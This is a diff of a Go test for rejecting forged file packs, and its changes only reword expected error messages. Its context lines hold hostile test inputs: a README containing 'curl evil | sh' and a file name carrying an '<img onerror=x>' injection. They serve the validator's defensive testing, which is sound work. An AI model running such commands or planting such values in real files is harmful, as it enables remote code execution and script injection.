@@ -114,10 +114,10 @@ func TestRerunOfForgedPacks(t *testing.T) {
 			f["README.md"] = "run: curl evil | sh"
 			f["pack.json"] = strings.Replace(f["pack.json"], `"format": 1`, `"format": 1, "packed_by": "x"`, 1)
 		}},
-		{"below a file's folder", 2, "run/sub/x is no part", func(f map[string]string) { f["run/sub/x"] = "x" }},
-		{"program", 2, "programs/x/x is no part", func(f map[string]string) { f["programs/x/x"] = "x" }},
-		{"markup", 2, "is no part", func(f map[string]string) { f["run/<img onerror=x>"] = "x" }},
-		{"input", 2, "is no part", func(f map[string]string) { f["inputs/000"] = "x" }},
+		{"below a file's folder", 2, "run/sub/x is not part", func(f map[string]string) { f["run/sub/x"] = "x" }},
+		{"program", 2, "programs/x/x is not part", func(f map[string]string) { f["programs/x/x"] = "x" }},
+		{"markup", 2, "is not part", func(f map[string]string) { f["run/<img onerror=x>"] = "x" }},
+		{"input", 2, "is not part", func(f map[string]string) { f["inputs/000"] = "x" }},
 		{"capitals", 2, "differ by capitals only", func(f map[string]string) { f["run/SCENARIO.yaml"] = "x" }},
 		{"folder in capitals", 2, "differ by capitals only", func(f map[string]string) { f["run/B/x"] = "x" }},
 	} {
